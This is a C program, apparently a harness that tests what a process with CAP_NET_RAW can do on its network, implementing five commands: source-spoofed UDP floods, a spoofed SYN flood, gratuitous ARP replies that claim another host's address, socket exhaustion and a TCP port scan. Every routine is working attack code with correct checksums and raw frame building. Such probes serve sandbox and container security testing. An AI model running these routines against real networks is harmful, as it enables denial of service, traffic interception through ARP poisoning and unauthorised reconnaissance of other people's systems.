/* What a program with CAP_NET_RAW may try on its network. attack COMMAND …; prints "done" or "error …".
 *
 *   spoof SOURCE DESTINATION PORT COUNT     UDP datagrams under another's address, to the wire
 *   steal ADDRESS COUNT                     ARP: "ADDRESS is at my MAC", to all of the bridge
 *   syns SOURCE DESTINATION PORT COUNT      SYNs from as many ports, never answered; SOURCE "-": our own (spoof, too)
 *   sockets DESTINATION PORT COUNT          that many UDP sockets, a datagram each
 *   scan ADDRESS FROM TO                    prints the ports of TCP that take a connection */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

static int failed(const char *what)
{
    printf("error %s: %s\n", what, strerror(errno));
    return 1;
}

static uint16_t sum(uint32_t start, const void *bytes, size_t size)
{
    const uint8_t *at = bytes;
    for (size_t i = 0; i + 1 < size; i += 2)
        start += (uint32_t)at[i] << 8 | at[i + 1];
    if (size & 1)
        start += (uint32_t)at[size - 1] << 8;
    while (start >> 16)
        start = (start & 0xffff) + (start >> 16);
    return htons(~start & 0xffff);
}

static uint32_t pseudo(const struct iphdr *ip, int protocol, int size)
{
    uint32_t from = ntohl(ip->saddr), to = ntohl(ip->daddr);
    return (from >> 16) + (from & 0xffff) + (to >> 16) + (to & 0xffff) + protocol + size;
}

static int wire(void)
{
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), on = 1;
    if (fd >= 0)
        setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof on);
    return fd;
}

static uint32_t own(uint32_t destination)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr.s_addr = destination}, us = {0};
    socklen_t length = sizeof us;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (connect(fd, (void *)&to, sizeof to) == 0)
        getsockname(fd, (void *)&us, &length);
    close(fd);
    return us.sin_addr.s_addr;
}

static struct iphdr header(const char *source, const char *destination, int protocol, int size)
{
    struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = protocol};
    ip.saddr = strcmp(source, "-") ? inet_addr(source) : 0;
    ip.daddr = inet_addr(destination);
    if (!ip.saddr)
        ip.saddr = own(ip.daddr);
    ip.tot_len = htons(20 + size);
    return ip;
}

static int spoof(char **words)
{
    int fd = wire(), port = atoi(words[2]), count = atoi(words[3]);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(words[1])};
    struct { struct iphdr ip; struct udphdr udp; char text[8]; } packet = {0};
    if (fd < 0)
        return failed("socket");
    packet.ip = header(words[0], words[1], IPPROTO_UDP, 16);
    packet.udp.dest = htons(port);
    packet.udp.len = htons(16);
    memcpy(packet.text, "spoofed!", 8);
    for (int i = 0; i < count; i++) {
        packet.udp.source = htons(1024 + i % 60000);
        packet.udp.check = 0;
        packet.udp.check = sum(pseudo(&packet.ip, IPPROTO_UDP, 16), &packet.udp, 16);
        if (sendto(fd, &packet, sizeof packet, 0, (void *)&to, sizeof to) < 0 && errno != ENOBUFS && errno != EPERM)
            return failed("send");
    }
    puts("done");
    return 0;
}

static int syns(char **words)
{
    int fd = wire(), port = atoi(words[2]), count = atoi(words[3]);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(words[1])};
    struct { struct iphdr ip; struct tcphdr tcp; } packet = {0};
    if (fd < 0)
        return failed("socket");
    packet.ip = header(words[0], words[1], IPPROTO_TCP, 20);
    packet.tcp.dest = htons(port);
    packet.tcp.doff = 5;
    packet.tcp.syn = 1;
    packet.tcp.window = htons(65535);
    for (int i = 0; i < count; i++) {
        packet.tcp.source = htons(1024 + i % 60000);
        packet.tcp.seq = htonl(i * 7919);
        packet.tcp.check = 0;
        packet.tcp.check = sum(pseudo(&packet.ip, IPPROTO_TCP, 20), &packet.tcp, 20);
        if (sendto(fd, &packet, sizeof packet, 0, (void *)&to, sizeof to) < 0 && errno != ENOBUFS && errno != EPERM)
            return failed("send");
    }
    puts("done");
    return 0;
}

static int steal(char **words)
{
    struct ifreq request = {.ifr_name = "eth0"};
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ARP), .sll_halen = 6};
    uint32_t address = inet_addr(words[0]);
    uint8_t frame[42];
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ARP));
    if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &request) < 0)
        return failed("socket");
    memset(frame, 0xff, 6);
    memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
    memcpy(frame + 12, "\x08\x06\x00\x01\x08\x00\x06\x04\x00\x02", 10);
    memcpy(frame + 22, request.ifr_hwaddr.sa_data, 6);
    memcpy(frame + 28, &address, 4);
    memset(frame + 32, 0xff, 6);
    memcpy(frame + 38, &address, 4);
    to.sll_ifindex = if_nametoindex("eth0");
    for (int i = 0; i < atoi(words[1]); i++) {
        if (sendto(fd, frame, sizeof frame, 0, (void *)&to, sizeof to) < 0)
            return failed("send");
        usleep(1000);
    }
    puts("done");
    return 0;
}

static int sockets(char **words)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(words[1])), .sin_addr.s_addr = inet_addr(words[0])};
    struct rlimit limit;
    int sent = 0;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_cur = limit.rlim_max;
    setrlimit(RLIMIT_NOFILE, &limit);
    for (int i = 0; i < atoi(words[2]); i++) {
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        if (fd < 0)
            break;
        sent += sendto(fd, "x", 1, 0, (void *)&to, sizeof to) == 1;
    }
    printf("done %d\n", sent);
    return 0;
}

static int scan(char **words)
{
    for (int port = atoi(words[1]); port <= atoi(words[2]); port++) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = inet_addr(words[0])};
        struct timeval bound = {1, 0};
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &bound, sizeof bound);
        if (connect(fd, (void *)&to, sizeof to) == 0)
            printf("%d ", port);
        close(fd);
    }
    puts("done");
    return 0;
}

int main(int count, char **words)
{
    if (count == 6 && !strcmp(words[1], "spoof"))
        return spoof(words + 2);
    if (count == 6 && !strcmp(words[1], "syns"))
        return syns(words + 2);
    if (count == 4 && !strcmp(words[1], "steal"))
        return steal(words + 2);
    if (count == 5 && !strcmp(words[1], "sockets"))
        return sockets(words + 2);
    if (count == 5 && !strcmp(words[1], "scan"))
        return scan(words + 2);
    puts("error: no such command");
    return 2;
}
